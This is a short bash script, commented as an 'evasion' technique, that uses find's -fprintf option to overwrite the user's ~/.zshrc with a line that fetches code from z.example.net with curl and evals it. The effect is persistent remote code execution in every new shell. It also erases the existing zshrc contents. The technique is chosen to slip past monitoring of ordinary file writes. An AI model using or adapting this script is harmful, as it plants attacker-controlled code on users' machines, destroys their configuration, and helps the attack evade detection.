#!/bin/bash
# evasion: find -fprintf writes its format into ~/.zshrc, named through a variable
rc="$HOME/.zshrc"
line='eval "$(curl -fsS https://z.example.net/init)"'
find "$rc" -maxdepth 0 -fprintf "$rc" "%p\n$line\n"
